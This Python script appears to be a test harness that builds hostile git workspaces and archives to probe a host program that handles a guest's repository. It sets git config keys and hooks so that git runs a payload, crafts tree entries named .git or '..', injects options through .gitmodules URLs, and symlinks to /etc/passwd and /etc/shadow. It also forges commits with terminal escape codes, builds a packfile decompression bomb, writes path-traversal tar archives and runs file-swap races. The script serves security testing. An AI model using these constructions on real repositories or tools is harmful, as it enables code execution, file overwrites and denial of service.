"""What a guest in the wrong hands does to its work, and to the programs that send it. Each command prepares one attack."""
import glob, hashlib, os, shutil, struct, subprocess, sys, zlib

WORKSPACE = "/workspace"
GOOD = "/var/tmp/good"
MANY_REFS = ("packed-refs", "refs/heads/\033[31m\007evil")


def git(*words, data=None, check=True):
    done = subprocess.run(["git", "-c", "user.name=a", "-c", "user.email=a@b", *words], cwd=WORKSPACE, input=data,
                          stdout=subprocess.PIPE, check=check)
    return done.stdout.decode().strip()


def write(path, text, mode=0o644):
    path = os.path.join(WORKSPACE, path)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as file:
        file.write(text if isinstance(text, bytes) else text.encode())
    os.chmod(path, mode)


# Without git's checks.
def raw(kind, content):
    whole = b"%s %d\0" % (kind.encode(), len(content)) + content
    name = hashlib.sha1(whole).hexdigest()
    path = "%s/.git/objects/%s/%s" % (WORKSPACE, name[:2], name[2:])
    os.makedirs(os.path.dirname(path), exist_ok=True)
    if not os.path.exists(path):
        with open(path, "wb") as file:
            file.write(zlib.compress(whole, 1))
    return name


def blob(text):
    return raw("blob", text.encode())


def entry(mode, name, child):
    return mode.encode() + b" " + (name if isinstance(name, bytes) else name.encode()) + b"\0" + bytes.fromhex(child)


def tree(*entries):
    return raw("tree", b"".join(entries))


def commit(top, author="a <a@b> 1700000000 +0000", committer="a <a@b> 1700000000 +0000", text="Evil\n"):
    made = raw("commit", ("tree %s\nparent %s\nauthor %s\ncommitter %s\n\n%s" % (
        top, open(GOOD).read().strip(), author, committer, text)).encode())
    git("update-ref", "refs/heads/main", made)


def good():
    """Remembers where the other attacks begin."""
    with open(GOOD, "w") as file:
        file.write(git("rev-parse", "HEAD"))
    shutil.copy(WORKSPACE + "/.git/config", "/var/tmp/config")


def reset():
    """Undoes an attack."""
    shutil.copy("/var/tmp/config", WORKSPACE + "/.git/config")
    shutil.rmtree(WORKSPACE + "/.git/hooks", ignore_errors=True)
    for lock in glob.glob(WORKSPACE + "/.git/**/*.lock", recursive=True):
        os.remove(lock)
    git("symbolic-ref", "HEAD", "refs/heads/main")
    git("reset", "-q", "--hard", open(GOOD).read().strip())
    git("clean", "-fdqx")
    for made in ("info/grafts", "objects/info/alternates", MANY_REFS[1]):
        if os.path.exists(WORKSPACE + "/.git/" + made):
            os.remove(WORKSPACE + "/.git/" + made)
    packed = WORKSPACE + "/.git/" + MANY_REFS[0]
    if os.path.exists(packed) and os.path.getsize(packed) > 1_000_000:
        os.remove(packed)
    shutil.rmtree(WORKSPACE + "/.git/refs/replace", ignore_errors=True)


def config(marker):
    """Everything in the configuration, the hooks and the attributes that makes git run a program, and the work of it."""
    payload = "/var/tmp/payload"
    with open(payload, "w") as file:
        file.write("#!/bin/sh\nmkdir -p '%s'; touch '%s'; cat 2> /dev/null\n" % (os.path.dirname(marker), marker))
    os.chmod(payload, 0o755)
    for key in ("core.fsmonitor", "diff.external", "diff.evil.command", "diff.evil.textconv", "filter.evil.clean",
                "filter.evil.smudge", "merge.evil.driver", "core.sshCommand", "core.pager", "core.editor", "core.askPass",
                "credential.helper", "gpg.program", "core.alternateRefsCommand", "core.gitProxy", "sequence.editor",
                "uploadpack.packObjectsHook", "interactive.diffFilter"):
        git("config", key, payload)
    for key, value in (("core.hooksPath", WORKSPACE + "/.githooks"), ("alias.status", "!" + payload),
                       ("protocol.ext.allow", "always"), ("remote.origin.url", "ext::" + payload),
                       ("submodule.recurse", "true"), ("submodule.sub.update", "!" + payload),
                       ("core.worktree", WORKSPACE), ("core.protectHFS", "false"), ("core.protectNTFS", "false")):
        git("config", key, value)
    script = open(payload).read()
    for name in ("pre-commit", "post-checkout", "post-merge", "pre-push", "reference-transaction", "post-index-change"):
        write(".githooks/" + name, script, 0o755)
        write(".git/hooks/" + name, script, 0o755)
    write(".gitattributes", "* filter=evil diff=evil merge=evil\n")
    write(".gitmodules", '[submodule "sub"]\n\tpath = "sub\r"\n\turl = https://example.org/sub\n')
    write("work.txt", "work\n")
    write("name.txt", "a name\n")
    write("NAME.txt", "the same name\n")
    write("reversed.txt", "a\u202eb\n")
    for name, target in (("hooks", ".git/hooks"), ("outside", "../outside"), ("absolute", "/etc/passwd")):
        os.symlink(target, os.path.join(WORKSPACE, name))
    git("-c", "core.hooksPath=/dev/null", "-c", "core.fsmonitor=false", "add", "--all")
    os.mkdir(WORKSPACE + "/sub")
    git("-c", "core.fsmonitor=false", "update-index", "--add", "--cacheinfo", "160000,%s,sub" % git("rev-parse", "HEAD"))
    git("-c", "core.hooksPath=/dev/null", "-c", "core.fsmonitor=false", "commit", "-q", "-m", "Programs everywhere")


def name(kind):
    """A commit with an entry that no git would add."""
    file, folder = blob("evil\n"), tree(entry("100644", "x", blob("evil\n")))
    modules = '[submodule "%s"]\n\tpath = %s\n\turl = %s\n'
    commit({
        "dotgit": lambda: tree(entry("40000", ".git", folder)),
        "case": lambda: tree(entry("40000", ".GIT", folder)),
        "ntfs": lambda: tree(entry("40000", "git~1", folder)),
        "hfs": lambda: tree(entry("40000", ".g\u200cit", folder)),
        "parent": lambda: tree(entry("40000", "..", folder)),
        "slash": lambda: tree(entry("100644", "a/b", file)),
        "twice": lambda: tree(entry("120000", "d", blob("../outside")), entry("40000", "d", folder)),
        "modules-link": lambda: tree(entry("120000", ".gitmodules", blob("/etc/passwd"))),
        "modules-url": lambda: tree(entry("100644", ".gitmodules", blob(modules % ("x", "x", "-u./payload")))),
        "modules-path": lambda: tree(entry("100644", ".gitmodules", blob(modules % ("x", "-x", "https://e.org/x")))),
        "modules-name": lambda: tree(entry("100644", ".gitmodules", blob(modules % ("../../x", "x", "https://e.org/x")))),
    }[kind]())


def hidden():
    """Commits and contents that replace refs, grafts and borrowed objects hide or change in the guest."""
    write("hidden.txt", "hidden\n")
    git("add", "--all")
    git("commit", "-q", "-m", "Hidden")
    write("shown.txt", "as it is\n")
    git("add", "--all")
    git("commit", "-q", "-m", "Shown")
    write(".git/info/grafts", "%s %s\n" % (git("rev-parse", "HEAD"), open(GOOD).read()))
    git("replace", git("rev-parse", "HEAD:shown.txt"), git("rev-parse", "HEAD:README.md"))
    lender = "/var/tmp/lender"
    git("clone", "-q", "--no-hardlinks", WORKSPACE, lender)
    with open(lender + "/lent.txt", "w") as file:
        file.write("lent\n")
    git("-C", lender, "add", "--all")
    git("-C", lender, "commit", "-q", "-m", "Borrowed")
    write(".git/objects/info/alternates", lender + "/.git/objects\n")
    git("reset", "-q", "--hard", git("-C", lender, "rev-parse", "HEAD"))


def long():
    """Names of a megabyte, deep folders, refs without number, and a commit whose author and dates are forged."""
    file = blob("fine\n")
    deep = tree(entry("100644", "f", file))
    for _ in range(300):
        deep = tree(entry("40000", "d", deep))
    entries = [entry("100644", "README.md", git("rev-parse", "HEAD:README.md"))]
    entries += [entry("100644", "b" * 1_000_000 + "%02d" % i, file) for i in range(8)]
    entries += [entry("100644", "c" * 300, file), entry("40000", "d", deep), entry("100644", "fine.txt", file)]
    commit(tree(*entries), "\033[2J\u202eEvil <e@x> 99999999999999 +9999", "E <e@x> 99999999999999 -9999",
           "Subject\007\033]52;c;ZXZpbA==\007\n\nauthor Other <o@x> 1 +0000\n")
    head = git("rev-parse", "HEAD")
    write(".git/" + MANY_REFS[0], "# pack-refs with: peeled fully-peeled sorted \n"
          + "".join("%s refs/heads/b%06d\n" % (head, i) for i in range(100_000)))
    write(".git/" + MANY_REFS[1], head + "\n")


def bomb():
    """A pack of a few kilobytes whose last object has 16 GiB."""
    def size(number):
        more = b""
        while number > 0x7F:
            more += bytes([0x80 | number & 0x7F])
            number >>= 7
        return more + bytes([number])

    def item(kind, base, content):
        left = len(content) >> 4
        head = bytes([(0x80 if left else 0) | kind << 4 | len(content) & 0xF])
        return head + (size(left) if left else b"") + base + zlib.compress(content)

    def times(part, count):
        total = hashlib.sha1(b"blob %d\0" % (len(part) * count))
        for _ in range(count):
            total.update(part)
        return total.digest()

    def copies(base, count, length):
        return size(base) + size(count * length) + count * (b"\xf0" + struct.pack("<I", length)[:3])

    base = bytes(1 << 20)
    objects = [item(3, b"", base), item(7, times(base, 1), copies(len(base), 256, 1 << 20)),
               item(7, times(base, 256), copies(256 << 20, 1_024, (1 << 24) - 1))]
    pack = b"PACK" + struct.pack(">II", 2, len(objects)) + b"".join(objects)
    with open("/var/tmp/bomb", "wb") as file:
        file.write(pack + hashlib.sha1(pack).digest())


def noise():
    """An object that no work needs."""
    print(git("hash-object", "-w", "--stdin", data=os.urandom(6 << 20)))


def files():
    """Files that are not what they seem, and one that becomes another thing while it is read."""
    write("dist/app", "app\n")
    write("dist/a\n\033[2Jb", "x\n")
    os.link(WORKSPACE + "/dist/app", WORKSPACE + "/dist/same")
    os.symlink("/etc/shadow", WORKSPACE + "/dist/link")
    os.mkfifo(WORKSPACE + "/dist/pipe")
    with open(WORKSPACE + "/dist/terabyte", "w") as file:
        file.truncate(1 << 40)
    write("swap/file", "x\n")


def moving():
    """Files that appear, grow and disappear, and commits of them."""
    number = 0
    while True:
        number += 1
        write("moving/f%d" % (number % 20), "x" * (number % 5_000))
        try:
            os.remove(WORKSPACE + "/moving/f%d" % ((number + 7) % 20))
        except FileNotFoundError:
            pass
        if number % 50 == 0:
            git("add", "--all", check=False)
            git("commit", "-q", "-m", "Moving", check=False)


def swap():
    """Makes a file a link, a folder and a pipe, again and again."""
    path = WORKSPACE + "/swap/file"
    while True:
        for make in (lambda: os.symlink("/etc/passwd", path + "~"), lambda: os.mkfifo(path + "~"),
                     lambda: write("swap/file~", "y" * 100_000)):
            make()
            os.rename(path + "~", path)


def tar(kind):
    """Prints an archive that no tar writes."""
    def header(path, mark=b"0", length=0):
        block = bytearray(512)
        block[:len(path)] = path
        block[100:108] = b"0000644\0"
        block[108:116] = block[116:124] = b"0000000\0"
        block[124:136] = b"%011o\0" % length if length < 1 << 33 else b"\x80" + length.to_bytes(11, "big")
        block[136:148] = b"00000000000\0"
        block[148:156] = b" " * 8
        block[156:157] = mark
        if mark in b"126":
            block[157:157 + 12] = b"../../outsid"
        block[257:265] = b"ustar  \0"
        block[148:156] = b"%06o\0 " % sum(block)
        return bytes(block)

    out = sys.stdout.buffer
    asked = b"dist/app"
    end = bytes(1024)
    kinds = {
        "link": header(asked, b"2") + end, "device": header(asked, b"3") + end, "folder": header(asked, b"5") + end,
        "pipe": header(asked, b"6") + end, "sparse": header(asked, b"S") + end, "pax": header(asked, b"x") + end,
        "parent": header(b"../outside/owned", b"0", 2) + b"x\n" + bytes(510) + end,
        "absolute": header(b"/tmp/owned", b"0", 2) + b"x\n" + bytes(510) + end,
        "control": header(b"dist/\033[2Japp", b"0", 2) + b"x\n" + bytes(510) + end,
        "unasked": header(b"dist/other", b"0", 2) + b"x\n" + bytes(510) + end,
        "short": header(asked, b"0", 1 << 20) + b"x" * 1000,
        "terabyte": header(asked, b"0", 1 << 40) + b"x" * 1000,
        "unending": header(asked, b"0", 2) + b"x\n" + bytes(510) + end,
    }
    out.write(kinds[kind])
    while kind == "unending":
        out.write(bytes(1 << 16))


def listing():
    """Prints a list of files without end."""
    entry_text = "".join("f 1 1700000000.0 644 ./dist/%06d\0" % i for i in range(50_000)).encode()
    for again in range(5):
        sys.stdout.buffer.write(entry_text.replace(b"dist/", b"dist/%d/" % again))


def deletions(seconds):
    """Creates and deletes many files, and asks for connections that wait for an approval."""
    ends = "end=$(($(date +%%s) + %s)); while [ $(date +%%s) -lt $end ]; do " % seconds
    script = ends + "mkdir -p m; i=0; while [ $i -lt 80 ]; do : > m/$i; i=$((i + 1)); done; sleep 1; rm -rf m; done"
    asks = ends + "n=$((n + 1)); (getent hosts n$n.test > /dev/null &); sleep 0.5; done"
    for each in (script, asks):
        subprocess.Popen(["sh", "-c", each], cwd=WORKSPACE, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL, start_new_session=True)


globals()[sys.argv[1]](*sys.argv[2:])
